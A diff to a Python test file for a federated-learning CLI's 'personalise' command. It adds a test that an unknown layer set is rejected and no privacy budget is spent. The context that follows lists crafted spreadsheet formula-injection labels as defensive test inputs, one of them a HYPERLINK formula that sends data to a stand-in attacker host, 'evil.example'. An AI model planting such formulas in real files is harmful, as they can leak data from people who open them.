@@ -101,6 +101,17 @@ def test_personalise_fine_tunes_with_dp_charged_to_the_ledger_and_refuses_past_t
     assert not (tmp_path / "again.pt").exists()
 
 
+def test_personalise_names_an_unknown_layer_set_and_charges_nothing(
+    tiny_federation: list[Path], tmp_path: Path
+):
+    model = _model_file(tmp_path / "model.pt")
+    out = CliRunner().invoke(app, ["personalise", str(model), str(tiny_federation[1]),
+                                   "--layers", "everything", "--state-dir",
+                                   str(tmp_path / "store")])
+    assert out.exit_code == 2 and "layers='everything'" in out.output
+    assert not (tmp_path / "store").exists() or not any((tmp_path / "store").rglob("*.json"))
+
+
 # ------------------------------------------------------------ crafted files, clear errors
 
 FORMULA_LABELS = ('=HYPERLINK("http://evil.example/?leak")', "+SUM(1)", "-1+2", "@cmd",
